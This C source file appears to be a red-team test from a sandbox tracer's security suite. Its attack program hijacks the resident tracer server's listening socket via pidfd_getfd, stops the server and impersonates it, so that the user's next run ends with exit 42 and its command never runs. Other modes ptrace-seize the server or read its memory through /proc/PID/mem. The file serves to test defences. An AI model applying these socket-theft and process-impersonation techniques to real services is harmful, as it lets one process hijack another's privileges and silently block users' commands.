/* res_steal.c: a traced program answers the user's next run in place of the resident
 * tracer (red team 48), with the server's own listening socket.
 *
 *   res_steal SOCKET BUILD READY   connect to the resident server's SOCKET and take a pidfd
 *                                  of the process that listened (SO_PEERPIDFD; by its pid and
 *                                  pidfd_open where the kernel has no SO_PEERPIDFD); copy the
 *                                  server's descriptors with pidfd_getfd until one is a
 *                                  listening socket -- the server's own; stop the server
 *                                  (SIGSTOP, so that it accepts nothing); touch READY; accept
 *                                  the next client (a `systrace` run of the user's), say the
 *                                  server's `hello` (BUILD: the socket's name says it), take
 *                                  its `run` (argv, environment, descriptors 0-2 and its
 *                                  working directory) and answer `exit` 42: that run ends
 *                                  with 42 and its command never runs.  The server is
 *                                  continued (SIGCONT) before the verdict.
 *
 *   res_steal SOCKET ptrace        PTRACE_SEIZE the server (then detach): a seized server
 *                                  runs what its tracer makes it run, untraced, and starts
 *                                  every run of the user's to come.
 *   res_steal SOCKET mem           read 16 bytes of the server's memory through its
 *                                  /proc/PID/mem (decided as process_vm_readv).
 *
 * A client checks its peer (SO_PEERCRED, SO_PEERPIDFD): a connected socket's peer is the
 * process that *listened*, the server, whoever accepts -- so the client cannot tell.
 * pidfd_getfd needs PTRACE_MODE_ATTACH on the server, which is not dumpable: root's
 * CAP_SYS_PTRACE passes over that (as for red team 46's /proc/PID/mem).
 *
 * ESCAPED when a client's run was answered by this program; BLOCKED when no listening
 * socket of the server's could be had (or nothing was answered).
 */
#include "attack.h"

#include <poll.h>
#include <sys/uio.h>

#ifndef SO_PEERPIDFD
#define SO_PEERPIDFD 77
#endif

static pid_t server_pid = -1;

static void resume_server(void) {
    if (server_pid > 0) kill(server_pid, SIGCONT);
}

static int read_exactly(int fd, void *buf, size_t size) {
    size_t got = 0;
    while (got < size) {
        ssize_t n = read(fd, (char *)buf + got, size - got);
        if (n <= 0) return -1;
        got += (size_t)n;
    }
    return 0;
}

/* A message: 4-byte little-endian length, then a marshal-ed dict of short strings and ints
 * ({ z<len>key z<len>value ... 0 ; 'i' + 4 bytes for an int). */
static void put_str(char *buf, size_t *at, const char *s) {
    size_t len = strlen(s);
    buf[(*at)++] = 'z';
    buf[(*at)++] = (char)len;
    memcpy(buf + *at, s, len);
    *at += len;
}

static int send_message(int fd, const char *kind, const char *key, const char *text, int code) {
    char buf[512];
    size_t at = 4;
    buf[at++] = '{';
    put_str(buf, &at, "kind");
    put_str(buf, &at, kind);
    put_str(buf, &at, key);
    if (text) {
        put_str(buf, &at, text);
    } else {
        buf[at++] = 'i';
        uint32_t v = (uint32_t)code;
        memcpy(buf + at, &v, 4);
        at += 4;
    }
    buf[at++] = '0';
    uint32_t len = (uint32_t)(at - 4);
    memcpy(buf, &len, 4);
    return write(fd, buf, at) == (ssize_t)at ? 0 : -1;
}

static pid_t pidfd_pid(int pidfd) {
    char path[64], line[256];
    snprintf(path, sizeof path, "/proc/self/fdinfo/%d", pidfd);
    FILE *f = fopen(path, "r");
    if (!f) return -1;
    pid_t pid = -1;
    while (fgets(line, sizeof line, f))
        if (strncmp(line, "Pid:", 4) == 0) pid = atoi(line + 4);
    fclose(f);
    return pid;
}

static void seize(pid_t server) {
    if (syscall(SYS_ptrace, 0x4206 /* PTRACE_SEIZE */, server, 0, 0) < 0)
        blocked("PTRACE_SEIZE of the server: %s", ename(errno));
    syscall(SYS_ptrace, 17 /* PTRACE_DETACH */, server, 0, 0);
    escaped("seized the resident server (pid %d)", server);
}

static void read_memory(pid_t server) {
    char path[64], line[512];
    snprintf(path, sizeof path, "/proc/%d/maps", server);
    FILE *maps = fopen(path, "r");
    if (!maps) blocked("%s: %s", path, ename(errno));
    unsigned long start = 0;
    while (fgets(line, sizeof line, maps))
        if (strstr(line, " r")) {
            start = strtoul(line, NULL, 16);
            break;
        }
    fclose(maps);
    snprintf(path, sizeof path, "/proc/%d/mem", server);
    int mem = open(path, O_RDONLY | O_CLOEXEC);
    if (mem < 0) blocked("open %s: %s", path, ename(errno));
    char bytes[16];
    if (pread(mem, bytes, sizeof bytes, (off_t)start) != (ssize_t)sizeof bytes)
        blocked("read %s: %s", path, ename(errno));
    escaped("read 16 bytes of the resident server's memory at %#lx", start);
}

int main(int argc, char **argv) {
    if (argc != 4 && !(argc == 3 && (!strcmp(argv[2], "ptrace") || !strcmp(argv[2], "mem")))) {
        fprintf(stderr, "usage: res_steal SOCKET BUILD READY | SOCKET ptrace|mem\n");
        return 2;
    }
    int probe = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    struct sockaddr_un addr = {.sun_family = AF_UNIX};
    snprintf(addr.sun_path, sizeof addr.sun_path, "%s", argv[1]);
    if (connect(probe, (struct sockaddr *)&addr, sizeof addr) < 0)
        blocked("connect %s: %s", argv[1], ename(errno));
    int pidfd = -1;
    socklen_t len = sizeof pidfd;
    if (getsockopt(probe, SOL_SOCKET, SO_PEERPIDFD, &pidfd, &len) < 0) {
        note("SO_PEERPIDFD: %s", ename(errno));
        struct ucred cred;
        len = sizeof cred;
        if (getsockopt(probe, SOL_SOCKET, SO_PEERCRED, &cred, &len) < 0)
            blocked("SO_PEERCRED: %s", ename(errno));
        pidfd = (int)syscall(SYS_pidfd_open, cred.pid, 0);
        if (pidfd < 0) blocked("pidfd_open %d: %s", cred.pid, ename(errno));
    }
    close(probe);
    server_pid = pidfd_pid(pidfd);
    note("the server is %d", server_pid);
    if (argc == 3) {
        pid_t server = server_pid;
        server_pid = -1;
        if (!strcmp(argv[2], "ptrace")) seize(server);
        read_memory(server);
    }
    int listener = -1, last_errno = 0;
    for (int target = 0; target < 64 && listener < 0; target++) {
        int fd = (int)syscall(SYS_pidfd_getfd, pidfd, target, 0);
        if (fd < 0) {
            if (errno != EBADF) last_errno = errno;
            continue;
        }
        int accepting = 0;
        socklen_t alen = sizeof accepting;
        if (getsockopt(fd, SOL_SOCKET, SO_ACCEPTCONN, &accepting, &alen) == 0 && accepting) {
            note("the server's descriptor %d is its listening socket", target);
            listener = fd;
        } else {
            close(fd);
        }
    }
    if (listener < 0)
        blocked("no listening socket of the server's (pidfd_getfd: %s)",
                last_errno ? ename(last_errno) : "only EBADF");
    if (kill(server_pid, SIGSTOP) < 0) note("SIGSTOP of the server: %s", ename(errno));
    atexit(resume_server);
    int ready = open(argv[3], O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
    if (ready >= 0) close(ready);
    int flags = fcntl(listener, F_GETFL);
    fcntl(listener, F_SETFL, flags & ~O_NONBLOCK);
    signal(SIGPIPE, SIG_IGN);
    /* a client waits a second for its hello (HELLO_PATIENCE), then runs in process: on a
     * loaded machine this traced program may be late, so the next client is taken too */
    uint32_t size = 0;
    int conn = -1, fds = 0;
    char *request = NULL;
    for (int attempt = 0; attempt < 5 && !request; attempt++) {
        struct pollfd pfd = {.fd = listener, .events = POLLIN};
        if (poll(&pfd, 1, 60000) <= 0) blocked("nobody connected within a minute");
        conn = accept4(listener, NULL, NULL, SOCK_CLOEXEC);
        if (conn < 0) blocked("accept: %s", ename(errno));
        if (send_message(conn, "hello", "build", argv[2], 0) < 0) {
            note("hello: %s", ename(errno));
            close(conn);
            continue;
        }
        /* the client's run: its length, then the message with its descriptors */
        char control[CMSG_SPACE(4 * sizeof(int))];
        struct iovec iov = {.iov_base = &size, .iov_len = 4};
        struct msghdr msg = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = control,
                             .msg_controllen = sizeof control};
        if (recvmsg(conn, &msg, MSG_WAITALL) != 4) {
            note("no run request (the client gave up)");
            close(conn);
            continue;
        }
        for (struct cmsghdr *c = CMSG_FIRSTHDR(&msg); c; c = CMSG_NXTHDR(&msg, c))
            if (c->cmsg_level == SOL_SOCKET && c->cmsg_type == SCM_RIGHTS)
                fds += (int)((c->cmsg_len - CMSG_LEN(0)) / sizeof(int));
        request = malloc(size + 1);
        if (!request || read_exactly(conn, request, size) < 0) blocked("a short run request");
        request[size] = 0;
    }
    if (!request) blocked("no client's run was had");
    int has_argv = memmem(request, size, "argv", 4) != NULL;
    resume_server();
    if (send_message(conn, "exit", "code", NULL, 42) < 0) blocked("exit: %s", ename(errno));
    close(conn);
    escaped("answered the user's next run (its request of %u bytes%s, %d of its descriptors) "
            "with exit 42, as the resident server", size, has_argv ? " with its argv" : "",
            fds);
}
